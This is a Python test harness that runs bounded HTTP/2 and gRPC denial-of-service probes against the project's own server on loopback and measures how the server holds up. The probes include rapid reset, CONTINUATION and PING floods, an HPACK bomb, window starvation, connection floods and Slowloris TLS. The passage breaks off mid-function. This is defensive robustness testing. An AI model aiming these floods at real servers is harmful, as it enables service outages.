"""Bounded probes of a hostile peer against a running trio-worker server (127.0.0.1 only).

    python tools/probe_hostile.py ATTACK [--pythonpath DIR] [--label TEXT] [--state-parent DIR]

ATTACK: big-id, hpack-flood, header-cache, zero-window, small-window, small-window-spread,
no-read, rapid-reset, ping-flood, frame-flood, alpn, conn-flood; since session 24 also
many-windows, many-partial, continuation-flood, hpack-bomb, settings-flood, odd-messages,
slow-tls, many-followers, start-flood, job-output, tls-flood, attach-stdin, and full-disk
(not in ``all``: give it ``--state-parent`` on a small file system); all.

Each probe starts its own server (``python -m trio_worker.cli serve`` with a development PKI
in a temporary state directory; ``--pythonpath`` runs another checkout's code, e.g. the
commit before a change), keeps a legitimate grpcio client calling ``Status`` throughout,
runs one bounded attack, and prints one JSON line: the server's CPU seconds during the
attack, its RSS and descriptor growth (peak, and 5 s after the attack), the legitimate
calls' p50, p99 and slowest and how many failed (they are another client's, "bystander",
so that per-client bounds never touch them), and what the attacker saw (answer time,
whether it was cut off, after how many frames). Every loop is bounded in count and time;
nothing leaves loopback.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc
import hpack

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))
from trio_worker._identity import Role  # noqa: E402
from trio_worker._pb import worker_pb2 as pb  # noqa: E402
from trio_worker.pki import issue_client  # noqa: E402

KiB = 1024
MiB = 1024 * KiB
SERVICE = "/trioworker.v1.Worker/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types and flags (RFC 9113).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">HBBBL", n >> 8, n & 0xFF, kind, flags, stream_id) + payload


def grpc_message(message: Any) -> bytes:
    body = message.SerializeToString()
    return struct.pack(">BI", 0, len(body)) + body


# --- the server under test --------------------------------------------------------------


@dataclass
class Server:
    pid: int
    port: int
    ca: Path
    cert: Path
    key: Path
    proc: subprocess.Popen[bytes]
    log: Path
    #: another client (identity "bystander"): the legitimate calls are its
    other_cert: Path
    other_key: Path

    def cpu(self) -> float:
        fields = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def rss(self) -> int:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * KiB
        return 0

    def fds(self) -> int:
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def alive(self) -> bool:
        return self.proc.poll() is None

    def protocol_errors(self) -> list[str]:
        """Why the server cut connections off, from its log (what it read is counted there,
        not in what the attacker's socket took)."""
        lines = self.log.read_text(errors="replace").splitlines()
        errors = [line for line in lines if "HTTP/2 protocol error" in line]
        return [line.split(": ", 1)[-1] for line in errors if not line.startswith("{")]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextlib.contextmanager
def running_server(pythonpath: str | None, state_parent: str | None = None) -> Iterator[Server]:
    with tempfile.TemporaryDirectory(prefix="probe-", dir=state_parent) as tmp:
        state = Path(tmp) / "state"
        port = free_port()
        env = dict(os.environ)
        # -S: no site, so no editable-install finder can pick a checkout other than ours.
        site_packages = [p for p in sys.path if p.endswith("site-packages")]
        env["PYTHONPATH"] = os.pathsep.join([pythonpath or str(REPO), *site_packages])
        proc = subprocess.Popen(
            [
                sys.executable,
                "-S",
                "-m",
                "trio_worker.cli",
                "serve",
                "--listen",
                f"127.0.0.1:{port}",
                "--state-dir",
                str(state),
            ],
            env=env,
            cwd=tmp,  # python -m puts the working directory first on sys.path
            stdout=subprocess.DEVNULL,
            stderr=open(Path(tmp) / "server.log", "wb"),  # noqa: SIM115
        )
        try:
            deadline = time.monotonic() + 30
            pki = state / "pki"
            while time.monotonic() < deadline:
                with contextlib.suppress(OSError):
                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
                    if (pki / "admin.key").exists():
                        break
                time.sleep(0.1)
            else:
                raise RuntimeError("the server did not start within 30 s")
            other = issue_client(pki, "bystander", Role.ADMIN)
            yield Server(
                proc.pid,
                port,
                pki / "ca.pem",
                pki / "admin.pem",
                pki / "admin.key",
                proc,
                Path(tmp) / "server.log",
                other.cert,
                other.key,
            )
        finally:
            proc.terminate()
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


def tls(server: Server, alpn: list[str] | None = None, rcvbuf: int = 0) -> ssl.SSLSocket:
    ctx = ssl.create_default_context(cafile=str(server.ca))
    ctx.load_cert_chain(str(server.cert), str(server.key))
    ctx.set_alpn_protocols(alpn if alpn is not None else ["h2"])
    raw = socket.socket()
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.settimeout(10)
    raw.connect(("127.0.0.1", server.port))
    return ctx.wrap_socket(raw, server_hostname="localhost")


def channel(server: Server, *, bystander: bool = False) -> grpc.Channel:
    """A grpcio channel of the attacker's identity (admin), or of the bystander's."""
    cert, key = (server.other_cert, server.other_key) if bystander else (server.cert, server.key)
    creds = grpc.ssl_channel_credentials(
        server.ca.read_bytes(), key.read_bytes(), cert.read_bytes()
    )
    return grpc.secure_channel(f"localhost:{server.port}", creds)


def unary(ch: grpc.Channel, method: str, request: Any, response: Any, timeout: float) -> Any:
    fn = ch.unary_unary(SERVICE + method, request.SerializeToString, response.FromString)
    return fn(request, timeout=timeout)


class Legit:
    """A legitimate client calling Status in a loop, on its own connection."""

    def __init__(self, server: Server, job_id: str) -> None:
        self.ch = channel(server, bystander=True)
        self.job_id = job_id
        self.slowest = 0.0
        self.times: list[float] = []
        self.stamps: list[tuple[float, float]] = []  # (began, took)
        self.calls = 0
        self.failed = 0
        self.errors: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        request = pb.StatusRequest(id=self.job_id)
        while not self._stop.is_set():
            began = time.monotonic()
            try:
                unary(self.ch, "Status", request, pb.Job, 10.0)
            except grpc.RpcError as exc:
                self.failed += 1
                if len(self.errors) < 3:
                    self.errors.append(str(exc.code()))
            self.calls += 1
            took = time.monotonic() - began
            self.times.append(took)
            self.stamps.append((began, took))
            self.slowest = max(self.slowest, took)
            self._stop.wait(0.02)

    def __enter__(self) -> Legit:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(30)
        self.ch.close()


@dataclass
class Report:
    attack: str
    figures: dict[str, Any] = field(default_factory=dict)


def _quantile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else 0.0


def measure(
    server: Server, job_id: str, attack: Callable[[Server], dict[str, Any]]
) -> dict[str, Any]:
    peak = [server.rss()]
    fds0 = server.fds()
    peak_fds = [fds0]
    stop = threading.Event()

    def sample() -> None:
        while not stop.wait(0.1):
            with contextlib.suppress(OSError):
                peak[0] = max(peak[0], server.rss())
                peak_fds[0] = max(peak_fds[0], server.fds())

    rss0 = server.rss()
    cpu0 = server.cpu()
    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    with Legit(server, job_id) as legit:
        time.sleep(0.5)
        began = time.monotonic()
        seen = attack(server)
        took = time.monotonic() - began
        time.sleep(0.5)
    cpu = server.cpu() - cpu0
    stop.set()
    sampler.join()
    time.sleep(5)
    return {
        **seen,
        "attack_s": round(took, 2),
        "server_cpu_s": round(cpu, 2),
        "rss_before_mib": round(rss0 / MiB, 1),
        "rss_peak_growth_mib": round((peak[0] - rss0) / MiB, 1),
        "rss_growth_after_5s_mib": round((server.rss() - rss0) / MiB, 1),
        "fds_before": fds0,
        "fds_peak_growth": peak_fds[0] - fds0,
        "fds_growth_after_5s": server.fds() - fds0,
        "legit_calls": legit.calls,
        "legit_failed": legit.failed,
        "legit_errors": legit.errors,
        "legit_p50_ms": round(_quantile(legit.times, 0.5) * 1000, 1),
        "legit_p99_ms": round(_quantile(legit.times, 0.99) * 1000, 1),
        "legit_slowest_ms": round(legit.slowest * 1000, 1),
        # the three slowest: (seconds after the attack began, ms)
        "legit_slowest_at": [
            (round(at - began, 1), round(took * 1000))
            for at, took in sorted(legit.stamps, key=lambda s: -s[1])[:3]
        ],
        "server_alive": server.alive(),
        "server_cut_off": server.protocol_errors()[:3],
    }


# --- raw HTTP/2 helpers -----------------------------------------------------------------


class Raw:
    """A raw HTTP/2 client connection: frames written by hand, frames read and counted."""

    def __init__(self, server: Server, settings: bytes = b"", rcvbuf: int = 0) -> None:
        self.sock = tls(server, rcvbuf=rcvbuf)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.encoder = hpack.Encoder()
        self.closed_by_server = False
        self.goaway: int | None = None
        self._buf = b""

    def request_block(self, method: str, extra: list[tuple[str, str]] = ()) -> bytes:  # type: ignore[assignment]
        headers = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", SERVICE + method),
            (":authority", "localhost"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *extra,
        ]
        # Literals without indexing: blocks stay independent of each other.
        return b"".join(b"\x00" + hpack_str(n) + hpack_str(v) for n, v in headers)

    def send(self, data: bytes) -> bool:
        self.sock.settimeout(30)
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed_by_server = True
            return False

    def drain(self, timeout: float = 0.0) -> None:
        """Read what the server sent, noting GOAWAY and EOF (answers SETTINGS)."""
        try:
            while True:
                # Each time: answering a SETTINGS (send) sets a longer timeout.
                self.sock.settimeout(timeout)
                data = self.sock.recv(256 * KiB)
                if not data:
                    self.closed_by_server = True
                    return
                self._buf += data
                self._parse()
        except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
            return
        except (OSError, ssl.SSLError):
            self.closed_by_server = True

    def _parse(self) -> None:
        buf = self._buf
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags = buf[3], buf[4]
            payload = buf[9 : 9 + length]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            buf = buf[9 + length :]
        self._buf = buf

    def flood(self, batch: Callable[[int], bytes], size: int, most: int, seconds: float) -> int:
        """Send ``batch(sent)`` (``size`` units each) until ``most`` units are sent, the
        server says GOAWAY or cuts us off, or ``seconds`` pass; then close. Returns how many
        units were sent (what the socket took: the server may have read fewer)."""
        sent = 0
        began = time.monotonic()
        while sent < most and time.monotonic() - began < seconds:
            if not self.send(batch(sent)):
                break
            sent += size
            self.drain(0)
            if self.closed_by_server or self.goaway is not None:
                break
        self.drain(2)
        self.close()
        return sent

    def flood_unread(self, one: bytes, most: int, seconds: float) -> tuple[int, bool]:
        """Send ``one`` frame 4,096 at a time, never reading, until ``most`` were sent, the
        server stops taking them for 5 s or cuts us off, or ``seconds`` pass; then close.
        Returns how many were sent and whether the server stopped reading."""
        batch = one * 4096
        sent = 0
        began = time.monotonic()
        self.sock.settimeout(5.0)
        stalled = False
        while sent < most and time.monotonic() - began < seconds:
            try:
                self.sock.sendall(batch)
            except (TimeoutError, ssl.SSLError, OSError) as exc:
                stalled = isinstance(exc, TimeoutError)
                self.closed_by_server = not stalled
                break
            sent += 4096
        self.close()
        return sent, stalled

    def outcome(self) -> dict[str, Any]:
        return {
            "cut_off": self.closed_by_server or self.goaway is not None,
            "goaway_error": self.goaway,
        }

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_str(text: str) -> bytes:
    raw = text.encode()
    return hpack_int(len(raw), 7) + raw


def header_frames(stream_id: int, block: bytes, end_stream: bool, size: int = 16 * KiB) -> bytes:
    """HEADERS + CONTINUATION frames of at most ``size`` bytes each."""
    return b"".join(_header_frames(stream_id, block, end_stream, size))


def _header_frames(stream_id: int, block: bytes, end_stream: bool, size: int) -> list[bytes]:
    """HEADERS + CONTINUATION frames of at most ``size`` bytes each."""
    chunks = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, flags, stream_id, chunk))
    return out


# --- the attacks ------------------------------------------------------------------------


def big_id(server: Server) -> dict[str, Any]:
    """One readonly-style Status with a 512 KiB job id (echoed into grpc-message before)."""
    with channel(server) as ch:
        began = time.monotonic()
        code = "OK"
        try:
            unary(ch, "Status", pb.StatusRequest(id="x" * (512 * KiB)), pb.Job, 300)
        except grpc.RpcError as exc:
            code = str(exc.code())
        return {"abusive_answer_s": round(time.monotonic() - began, 2), "abusive_code": code}


def hpack_flood(server: Server, total: int = 8 * MiB) -> dict[str, Any]:
    """One header block of 1-byte HPACK table-size updates (``0x20``), ``total`` bytes in
    16 KiB HEADERS/CONTINUATION frames, then a valid request ends it."""
    raw = Raw(server)
    raw.drain(1.0)
    began = time.monotonic()
    block = b"\x20" * total + raw.request_block("Status")
    frames = header_frames(1, block, end_stream=False, size=MiB - 1)
    sent = 0
    step = 256 * KiB
    while sent < len(frames) and time.monotonic() - began < 120:
        if not raw.send(frames[sent : sent + step]):
            break
        sent += step
        raw.drain(0)
    if not raw.closed_by_server:
        raw.send(frame(DATA, END_STREAM, 1, grpc_message(pb.StatusRequest(id="x"))))
        raw.drain(10)
    raw.close()
    return {
        "abusive_answer_s": round(time.monotonic() - began, 2),
        "block_bytes_sent": min(sent, len(frames)),
        "cut_off": raw.closed_by_server or raw.goaway is not None,
        "goaway_error": raw.goaway,
    }


def header_cache(server: Server, blocks: int = 64, size: int = 256 * KiB) -> dict[str, Any]:
    """``blocks`` distinct header blocks of ``size`` bytes (table-size updates, then a valid
    request) on one connection: a decoded-header cache keyed by whole blocks keeps them."""
    raw = Raw(server)
    raw.drain(1.0)
    began = time.monotonic()
    sent_blocks = 0
    for i in range(blocks):
        if time.monotonic() - began > 120:
            break
        stream_id = 1 + 2 * i
        extra = [("x-probe", str(i))]
        block = b"\x20" * size + raw.request_block("Status", extra)
        data = header_frames(stream_id, block, end_stream=False, size=MiB - 1)
        data += frame(DATA, END_STREAM, stream_id, grpc_message(pb.StatusRequest(id="x")))
        if not raw.send(data):
            break
        sent_blocks += 1
        raw.drain(0)
    raw.drain(2)
    raw.close()
    return {
        "blocks_sent": sent_blocks,
        "cut_off": raw.closed_by_server or raw.goaway is not None,
        "goaway_error": raw.goaway,
    }


def zero_window(
    server: Server,
    streams: int = 100,
    hold: float = 15.0,
    window: int = 0,
    read: bool = True,
    spread: int = 0,
) -> dict[str, Any]:
    """A client advertising a zero stream window that never opens it: ``streams`` Output
    follow streams of a chatty job from offset 0 (stream i from ``i * spread``), held
    ``hold`` seconds, reading the socket (so TCP is never what holds the server back)."""
    settings = struct.pack(">HL", 0x4, window)  # SETTINGS_INITIAL_WINDOW_SIZE
    raw = Raw(server, settings, rcvbuf=0 if read else 4 * KiB)
    raw.drain(1.0)
    data = b""
    for i in range(streams):
        stream_id = 1 + 2 * i
        data += header_frames(stream_id, raw.request_block("Output"), end_stream=False)
        request = pb.OutputRequest(id=CHATTY[0], offset=i * spread, follow=True)
        data += frame(DATA, END_STREAM, stream_id, grpc_message(request))
    raw.send(data)
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and not raw.closed_by_server:
        if read:
            raw.drain(0.2)
        else:
            time.sleep(0.2)
    raw.close()
    return {
        "streams": streams,
        "spread": spread,
        "window": window,
        "held_s": hold,
        "cut_off": raw.closed_by_server,
    }


def no_read(server: Server) -> dict[str, Any]:
    """As zero-window, but with the default 64 KiB windows and a client that never reads
    its socket: the server's send buffer fills, and the streams wait for room."""
    return zero_window(server, window=65535, read=False)


def small_window(server: Server) -> dict[str, Any]:
    """As zero-window, but each stream's window is 1 byte: every stream may start a
    message, and then waits."""
    return zero_window(server, window=1)


def small_window_spread(server: Server) -> dict[str, Any]:
    """As small-window, but stream i starts at offset i MiB: no two share a disk block, so
    this is the worst a connection's streams can hold."""
    return zero_window(server, window=1, spread=MiB)


def rapid_reset(server: Server, pairs: int = 100_000) -> dict[str, Any]:
    """HEADERS (a Status request) immediately followed by RST_STREAM(CANCEL), ``pairs``
    times on one connection (CVE-2023-44487)."""
    raw = Raw(server)
    raw.drain(1.0)
    block = raw.request_block("Status")

    def pairs_from(first: int) -> bytes:
        return b"".join(
            header_frames(1 + 2 * (first + i), block, end_stream=False)
            + frame(RST_STREAM, 0, 1 + 2 * (first + i), struct.pack(">L", 8))
            for i in range(100)
        )

    sent = raw.flood(pairs_from, 100, pairs, 60.0)
    return {"pairs_sent": sent, **raw.outcome()}


def ping_flood(server: Server, pings: int = 4_000_000, seconds: float = 30.0) -> dict[str, Any]:
    """PING frames from a client that never reads (small receive buffer), until ``pings``
    were sent, the server stops taking them for 5 s, or ``seconds`` pass."""
    raw = Raw(server, rcvbuf=4 * KiB)
    sent, stalled = raw.flood_unread(frame(PING, 0, 0, b"12345678"), pings, seconds)
    return {"pings_sent": sent, "server_stopped_reading": stalled, "cut_off": raw.closed_by_server}


def frame_flood(server: Server, frames: int = 100_000, seconds: float = 30.0) -> dict[str, Any]:
    """Frames that make no progress from a client that reads everything: PING, SETTINGS,
    WINDOW_UPDATE, PRIORITY and empty DATA on a request it never ends, in turn, until
    ``frames`` were sent, the server cuts the connection off, or ``seconds`` pass."""
    raw = Raw(server)
    raw.drain(1.0)
    raw.send(header_frames(1, raw.request_block("Status"), end_stream=False))
    mix = (
        frame(PING, 0, 0, b"12345678")
        + frame(SETTINGS, 0, 0)
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))
        + frame(0x2, 0, 3, struct.pack(">LB", 0, 16))  # PRIORITY for an idle stream
        + frame(DATA, 0, 1)
    )
    sent = raw.flood(lambda _: mix * 20, 100, frames, seconds)
    return {"frames_sent": sent, **raw.outcome()}


def alpn(server: Server) -> dict[str, Any]:
    """A TLS client offering ALPN http/1.1 only: served, or refused at the handshake?"""
    try:
        sock = tls(server, alpn=["http/1.1"])
    except (ssl.SSLError, OSError) as exc:
        return {"handshake": "refused", "reason": type(exc).__name__}
    chosen = sock.selected_alpn_protocol()
    sock.settimeout(5)
    served = False
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        data = sock.recv(9)
        served = len(data) == 9 and data[3] == SETTINGS
    except (OSError, ssl.SSLError):
        pass
    sock.close()
    return {"handshake": "completed", "alpn": chosen, "served_h2": served}


def conn_flood(
    server: Server, held: int = 1000, fresh: int = 40, seconds: float = 60.0
) -> dict[str, Any]:
    """``held`` idle TCP connections from 127.0.0.2, refilled as the server drops them,
    while ``fresh`` new legitimate clients from 127.0.0.1 each connect and call Status
    once (5 s deadline): how many are served, and how slowly (issue 10, admission)."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stop = threading.Event()
    socks: list[socket.socket] = []
    refills = [0]

    def flood() -> None:
        began = time.monotonic()
        while not stop.is_set() and time.monotonic() - began < seconds:
            alive = []
            for sock in socks:  # drop those the server closed or reset
                try:
                    if sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b"":
                        sock.close()
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    sock.close()
                    continue
                alive.append(sock)
            socks[:] = alive
            while len(socks) < held and not stop.is_set():
                sock = socket.socket()
                sock.bind(("127.0.0.2", 0))
                sock.settimeout(1.0)
                try:
                    sock.connect(("127.0.0.1", server.port))
                except OSError:
                    sock.close()
                    break
                sock.setblocking(False)  # the liveness check above must not wait
                socks.append(sock)
                refills[0] += 1
            stop.wait(0.2)

    thread = threading.Thread(target=flood, daemon=True)
    thread.start()
    filling = time.monotonic() + 10
    while len(socks) < held and time.monotonic() < filling:  # let the flood fill up
        time.sleep(0.1)
    held_at_start = len(socks)
    served = 0
    slowest = 0.0
    began = time.monotonic()
    for _ in range(fresh):
        if time.monotonic() - began > seconds:
            break
        time.sleep(0.25)  # spread over the flood's life
        t0 = time.monotonic()
        try:
            with channel(server, bystander=True) as ch:
                unary(ch, "Status", pb.StatusRequest(id=JOB[0]), pb.Job, 5.0)
            served += 1
            slowest = max(slowest, time.monotonic() - t0)
        except grpc.RpcError:
            pass
    stop.set()
    thread.join(30)
    held_at_end = len(socks)
    for sock in socks:
        sock.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return {
        "fresh_clients": fresh,
        "fresh_served": served,
        "fresh_slowest_served_ms": round(slowest * 1000, 1),
        "flood_connects": refills[0],
        "flood_held_at_start": held_at_start,
        "flood_held_at_end": held_at_end,
    }


# --- more attacks (session 24): many connections, bombs, odd messages, hostile jobs ---------


def _connections(server: Server, count: int, settings: bytes = b"") -> list[Raw]:
    """``count`` raw HTTP/2 connections, made one after another (each handshake whole)."""
    conns = []
    for _ in range(count):
        try:
            raw = Raw(server, settings)
        except (OSError, ssl.SSLError):
            break
        raw.drain(0.05)
        conns.append(raw)
    return conns


def _hold(conns: list[Raw], seconds: float, read: bool = True) -> int:
    """Keep ``conns`` open ``seconds``, reading what comes (so TCP never holds the server
    back); returns how many the server cut off."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for raw in conns:
            if read and not raw.closed_by_server:
                raw.drain(0)
        time.sleep(0.1)
    cut = sum(raw.closed_by_server or raw.goaway is not None for raw in conns)
    for raw in conns:
        raw.close()
    return cut


def many_windows(
    server: Server, conns: int = 200, streams: int = 32, hold: float = 15.0
) -> dict[str, Any]:
    """small-window-spread on ``conns`` connections at once, one identity and address:
    each connection's ``streams`` Output follow streams (window 1 byte, stream i from i
    MiB), held ``hold`` seconds. What bounds the server's memory across connections?"""
    settings = struct.pack(">HL", 0x4, 1)
    opened = _connections(server, conns, settings)
    for raw in opened:
        data = b""
        for i in range(streams):
            stream_id = 1 + 2 * i
            data += header_frames(stream_id, raw.request_block("Output"), end_stream=False)
            request = pb.OutputRequest(id=CHATTY[0], offset=i * MiB, follow=True)
            data += frame(DATA, END_STREAM, stream_id, grpc_message(request))
        raw.send(data)
    cut = _hold(opened, hold)
    return {"connections": len(opened), "streams_each": streams, "cut_off": cut}


def many_partial(
    server: Server, conns: int = 200, streams: int = 2, hold: float = 15.0
) -> dict[str, Any]:
    """Requests whose gRPC length prefix says 4 MiB and whose bytes stop 1 short of it
    (never ended), on ``streams`` Start streams of each of ``conns`` connections: what the
    server buffers for messages that never complete, across connections (two such
    streams are just under a connection's MAX_BUFFERED_REQUESTS)."""
    prefix = struct.pack(">BI", 0, 4 * MiB - 5)
    opened = _connections(server, conns)
    sent = 0
    chunk = b"\x00" * (64 * KiB)
    for raw in opened:
        data = b""
        for i in range(streams):
            data += header_frames(1 + 2 * i, raw.request_block("Start"), end_stream=False)
        raw.send(data)
        # Stream by stream, 64 KiB frames, as long as the windows let the socket take them.
        for i in range(streams):
            stream_id = 1 + 2 * i
            first = prefix + chunk[: len(chunk) - len(prefix)]
            if not raw.send(frame(DATA, 0, stream_id, first)):
                break
            sent += len(first)
            for _ in range(4 * MiB // len(chunk) - 2):
                raw.sock.settimeout(0.5)
                try:
                    raw.sock.sendall(frame(DATA, 0, stream_id, chunk))
                except TimeoutError:  # the windows are closed: on to the next connection
                    break
                except (OSError, ssl.SSLError):
                    raw.closed_by_server = True
                    break
                sent += len(chunk)
            raw.drain(0)
            if raw.closed_by_server:
                break
    cut = _hold(opened, hold)
    return {
        "connections": len(opened),
        "streams_each": streams,
        "mib_sent": sent // MiB,
        "cut_off": cut,
    }


def continuation_flood(server: Server, frames: int = 1_000_000) -> dict[str, Any]:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames without END_HEADERS,
    endlessly (CVE-2024-27316 style)."""
    raw = Raw(server)
    raw.drain(1.0)
    raw.send(frame(HEADERS, 0, 1, raw.request_block("Status")[:10]))
    sent = raw.flood(lambda _: frame(CONTINUATION, 0, 1) * 1000, 1000, frames, 30.0)
    return {"continuations_sent": sent, **raw.outcome()}


def hpack_bomb(server: Server, streams: int = 2000) -> dict[str, Any]:
    """A 4 KiB header put in the HPACK dynamic table, then requests that refer to it
    (one byte: indexed, 62) 4,000 times each: 16 MB of decoded headers per 4 KB block."""
    raw = Raw(server)
    raw.drain(1.0)
    insert = b"\x40" + hpack_str("x-bomb") + hpack_str("b" * 4000)  # incremental indexing
    first = raw.request_block("Status", []) + insert
    data = header_frames(1, first, end_stream=False)
    data += frame(DATA, END_STREAM, 1, grpc_message(pb.StatusRequest(id=JOB[0])))
    raw.send(data)
    bomb = raw.request_block("Status") + b"\xbe" * 4000  # 0x80 | 62

    def batch(sent: int) -> bytes:
        out = b""
        for i in range(10):
            stream_id = 3 + 2 * (sent + i)
            out += header_frames(stream_id, bomb, end_stream=False)
            out += frame(DATA, END_STREAM, stream_id, grpc_message(pb.StatusRequest(id="x")))
        return out

    sent = raw.flood(batch, 10, streams, 30.0)
    return {"bomb_blocks_sent": sent, **raw.outcome()}


def settings_flood(server: Server, count: int = 2_000_000, seconds: float = 30.0) -> dict[str, Any]:
    """SETTINGS frames (each wants an ACK) from a client that never reads its socket."""
    raw = Raw(server, rcvbuf=4 * KiB)
    settings = frame(SETTINGS, 0, 0, struct.pack(">HL", 0x4, 65535))
    sent, stalled = raw.flood_unread(settings, count, seconds)
    return {
        "settings_sent": sent,
        "server_stopped_reading": stalled,
        "cut_off": raw.closed_by_server,
    }


def _one_call(
    raw: Raw, stream_id: int, method: str, body: bytes, extra: list[tuple[str, str]] = ()
) -> dict[str, Any]:  # type: ignore[assignment]
    """Send one request (``body`` as the DATA, ended) and read the server's answer: the
    grpc-status of the trailers (or an RST_STREAM / GOAWAY)."""
    dec = hpack.Decoder()
    dec.max_header_list_size = 1 << 20
    raw.send(
        header_frames(stream_id, raw.request_block(method, extra), end_stream=False)
        + frame(DATA, END_STREAM, stream_id, body)
    )
    deadline = time.monotonic() + 10
    buf = b""
    raw.sock.settimeout(1)
    while time.monotonic() < deadline:
        try:
            data = raw.sock.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            continue
        except (OSError, ssl.SSLError):
            return {"answer": "connection lost"}
        if not data:
            return {"answer": "connection closed"}
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = buf[9 : 9 + length]
            buf = buf[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                raw.send(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                return {"answer": f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"}
            elif kind == RST_STREAM and sid == stream_id:
                return {"answer": f"RST_STREAM {int.from_bytes(payload, 'big')}"}
            elif kind == HEADERS and sid == stream_id:
                headers = dict(dec.decode(payload))
                if "grpc-status" in headers:
                    return {
                        "answer": f"grpc-status {headers['grpc-status']}",
                        "message": headers.get("grpc-message", "")[:80],
                    }
    return {"answer": "none in 10 s"}


def odd_messages(server: Server) -> dict[str, Any]:
    """Requests that are not what they say: the compressed flag set without grpc-encoding;
    a length prefix larger than what is sent, then END_STREAM; a prefix over 4 MiB; 16 KiB
    of custom metadata; a request split in a 5-byte-short prefix."""
    out: dict[str, Any] = {}
    status = pb.StatusRequest(id=JOB[0]).SerializeToString()
    cases = {
        "compressed_flag": struct.pack(">BI", 1, len(status)) + status,
        "prefix_larger_than_sent": struct.pack(">BI", 0, 1000) + status,
        "prefix_over_max": struct.pack(">BI", 0, 0xFFFFFFFF) + status,
        "short_prefix": b"\x00\x00",
    }
    for i, (name, body) in enumerate(cases.items()):
        raw = Raw(server)
        raw.drain(0.5)
        out[name] = _one_call(raw, 1 + 2 * i, "Status", body)["answer"]
        raw.close()
    raw = Raw(server)
    raw.drain(0.5)
    metadata = [(f"x-meta-{i}", "v" * 200) for i in range(80)]
    out["metadata_16k"] = _one_call(
        raw, 1, "Status", grpc_message(pb.StatusRequest(id=JOB[0])), metadata
    )["answer"]
    raw.close()
    return out


def slow_tls(server: Server, conns: int = 200, seconds: float = 30.0) -> dict[str, Any]:
    """Slowloris TLS: ``conns`` TCP connections (from 127.0.0.3) that send a ClientHello's
    first bytes and then one byte every 2 s, never finishing it."""
    ctx = ssl.create_default_context(cafile=str(server.ca))
    ctx.load_cert_chain(str(server.cert), str(server.key))
    mem_in, mem_out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(mem_in, mem_out, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        obj.do_handshake()
    hello = mem_out.read()
    socks: list[tuple[socket.socket, int]] = []
    for _ in range(conns):
        sock = socket.socket()
        sock.bind(("127.0.0.3", 0))
        sock.settimeout(1)
        try:
            sock.connect(("127.0.0.1", server.port))
            sock.sendall(hello[:5])
